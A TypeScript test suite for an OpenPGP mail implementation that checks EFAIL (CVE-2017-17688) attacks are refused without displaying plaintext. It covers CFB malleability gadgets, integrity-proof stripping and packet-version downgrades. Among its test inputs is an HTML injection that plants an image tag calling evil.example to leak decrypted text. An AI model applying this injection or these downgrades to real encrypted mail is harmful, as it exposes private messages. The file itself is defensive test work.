/**
 * EFAIL on OpenPGP (Poddebniak et al., USENIX Security 2018; CVE-2017-17688): CFB lets an attacker who knows one block of the
 * plaintext write others into it; then the proof of integrity is spoiled, cut off, or lost by calling the packet an older
 * one, and a program that shows the plaintext nevertheless sends it away. Here what is not proven is refused, and shown to nobody.
 */
import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, test } from 'node:test'
import { AEADS } from '../../src/protection/openpgp/algorithms/aeads.ts'
import { unarmored } from '../../src/protection/openpgp/armor.ts'
import { openWhole } from '../../src/protection/openpgp/encryption/open-container.ts'
import { openersOf } from '../../src/protection/openpgp/message/own-keys.ts'
import { PACKET, type Packet, readPackets } from '../../src/protection/openpgp/packets/packet.ts'
import {
  CFB,
  ENTITY,
  SECRET,
  answered,
  bob,
  bobsKey,
  captured,
  literalOf,
  mailWith,
  receivedByBob,
  shown,
} from '../support/openpgp-attack.ts'
import { MALLORY } from '../support/tampering.ts'

const BLOCK = 16
/** Version, then the prefix of a block and two octets. */
const PLAINTEXT_AT = 1 + BLOCK + 2
const MDC_BYTES = 22

const [OCB] = AEADS.map((aead) => ({ ...CFB, aead }))
assert(OCB !== undefined)
const [sessionKey, container] = captured(CFB)
const UNCHANGED = answered(receivedByBob(mailWith([sessionKey, container])))

const withBody = ({ type }: Packet, body: Uint8Array): Packet => ({ type, body })

/** Whoever knows what stands at `at` puts `text` there; the block behind it becomes random. */
function gadget({ type, body }: Packet, at: number, known: string, text: string): Packet {
  const changed = Buffer.from(body)
  for (let i = 0; i < text.length; i++)
    changed[at + i] = (changed[at + i] ?? 0) ^ known.charCodeAt(i) ^ text.charCodeAt(i)
  return { type, body: changed }
}

/** Known: every such mail begins like this. */
const known = Buffer.from(literalOf(ENTITY)).toString('latin1')
const knownAt = known.indexOf('Content-Type')
const html = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/'
const injected = gadget(container, PLAINTEXT_AT + knownAt, known.slice(knownAt), html.slice(0, 3 * BLOCK))

/** Blocks of the ciphertext again, behind themselves. */
const repeated = Buffer.concat([container.body.subarray(0, -MDC_BYTES), container.body.subarray(1)])

const GADGETS: readonly [why: string, packets: readonly Packet[]][] = [
  ['text written into a known block', [sessionKey, injected]],
  ['one letter changed', [sessionKey, gadget(container, PLAINTEXT_AT + known.indexOf('100'), '100', '900')]],
  ['the proof cut off', [sessionKey, withBody(container, container.body.subarray(0, -MDC_BYTES))]],
  ['text written in, the proof cut off', [sessionKey, withBody(injected, injected.body.subarray(0, -MDC_BYTES))]],
  ['the proof cut in half', [sessionKey, withBody(container, container.body.subarray(0, -10))]],
  ['the ciphertext twice', [sessionKey, withBody(container, repeated)]],
  [
    'blocks left out',
    [sessionKey, withBody(container, Buffer.concat([container.body.subarray(0, 33), container.body.subarray(49)]))],
  ],
  ['nothing but the version', [sessionKey, withBody(container, Uint8Array.of(1))]],
]

test('unchanged it is opened and shown', () => {
  const received = receivedByBob(mailWith([sessionKey, container]))
  assert(shown(received).includes(SECRET))
  assert.equal(received.report.layers[0]?.verdict, 'decrypted')
})

describe('CFB gadgets', () => {
  for (const [why, packets] of GADGETS)
    test(`${why}: refused, nothing is shown`, () => {
      const received = receivedByBob(mailWith(packets))
      assert.equal(received.outcome, 'refused 5.7.7')
      assert.equal(shown(received), '')
      assert.equal(received.report.message, undefined)
    })

  test('all of them are refused in the same words', () => {
    const answers = new Set(GADGETS.map(([, packets]) => answered(receivedByBob(mailWith(packets)))))
    assert.equal(answers.size, 1)
    assert(!answers.has(UNCHANGED))
  })
})

/** The same ciphertext under another name. */
const ciphertext = container.body.subarray(1)
const [sessionKey6, container2] = captured(OCB)
/** Version 3 of the packet for X25519 and ECDH; version 6 names the whole fingerprint. */
const fields6 = sessionKey6.body.subarray(2 + (sessionKey6.body[1] ?? 0))
const asVersion3: Packet = {
  type: PACKET.PKESK,
  body: Buffer.concat([Uint8Array.of(3), bobsKey().keyId, fields6]),
}

const DOWNGRADES: readonly [why: string, packets: readonly Packet[]][] = [
  ['SEIPD 1 as SED', [sessionKey, { type: PACKET.SED, body: ciphertext }]],
  ['SEIPD 1 as SED, its version included', [sessionKey, { type: PACKET.SED, body: container.body }]],
  ['SEIPD 1 as SED, without its proof', [sessionKey, { type: PACKET.SED, body: ciphertext.subarray(0, -MDC_BYTES) }]],
  [
    'SEIPD 1 as SED, aligned by leaving two octets out',
    [sessionKey, { type: PACKET.SED, body: ciphertext.subarray(2) }],
  ],
  [
    'SEIPD 2 as SEIPD 1',
    [sessionKey6, withBody(container2, Buffer.concat([Uint8Array.of(1), container2.body.subarray(36)]))],
  ],
  [
    'SEIPD 2 as SEIPD 1, the session key as version 3',
    [asVersion3, withBody(container2, Buffer.concat([Uint8Array.of(1), container2.body.subarray(36)]))],
  ],
  ['SEIPD 2 as SED', [asVersion3, { type: PACKET.SED, body: container2.body.subarray(36) }]],
  [
    'SEIPD 2 as the packet of GnuPG 2.3',
    [
      asVersion3,
      {
        type: PACKET.AEAD,
        body: Buffer.concat([
          Uint8Array.of(1),
          container2.body.subarray(1, 4),
          container2.body.subarray(4, 19),
          container2.body.subarray(36),
        ]),
      },
    ],
  ],
  [
    'SEIPD 1 as SEIPD 2',
    [sessionKey, withBody(container, Buffer.concat([container2.body.subarray(0, 36), ciphertext]))],
  ],
  ['SEIPD 2 with another mode', [sessionKey6, withBody(container2, container2.body.with(2, 3))]],
  ['SEIPD 2 with another cipher', [sessionKey6, withBody(container2, container2.body.with(1, 7))]],
  ['SEIPD 2 with other chunks', [sessionKey6, withBody(container2, container2.body.with(3, 9))]],
]

describe('downgrades', () => {
  for (const [why, packets] of DOWNGRADES)
    test(`${why}: refused, nothing is shown`, () => {
      for (const from of [undefined, MALLORY]) {
        const received = receivedByBob(mailWith(packets, from))
        assert.equal(received.outcome, 'refused 5.7.7')
        assert.equal(shown(received), '')
      }
    })
})

test('where weak algorithms are allowed SED stays shut, unless a human opens a file at the keyboard', () => {
  const ring = { decryptionKeys: [bob], known: [], anchors: [], allowWeak: true }
  const sed: Packet = { type: PACKET.SED, body: ciphertext }
  assert.equal(openWhole([sessionKey], sed, openersOf(ring)).kind, 'broken')
  assert.equal(openWhole([sessionKey], sed, openersOf({ ...ring, secrets: [] })).kind, 'decrypted')
})

describe('the gadgets of Efail-malleability-gadget-exploit', () => {
  const folder = join(import.meta.dirname, '../../../shared/corpora/efail-gadgets/ciphertext_files/openpgp')
  test(
    'are packets whose key nobody here has: they stay shut',
    { skip: existsSync(folder) ? false : 'no corpora' },
    () => {
      for (const file of ['msg.gpg', 'modified.eml.gpg']) {
        const received = receivedByBob(mailWith(readPackets(unarmored(readFileSync(join(folder, file))))))
        assert.notEqual(received.outcome, 'valid', file)
        assert(!received.report.layers.some(({ verdict }) => verdict === 'decrypted'), file)
      }
    },
  )
})
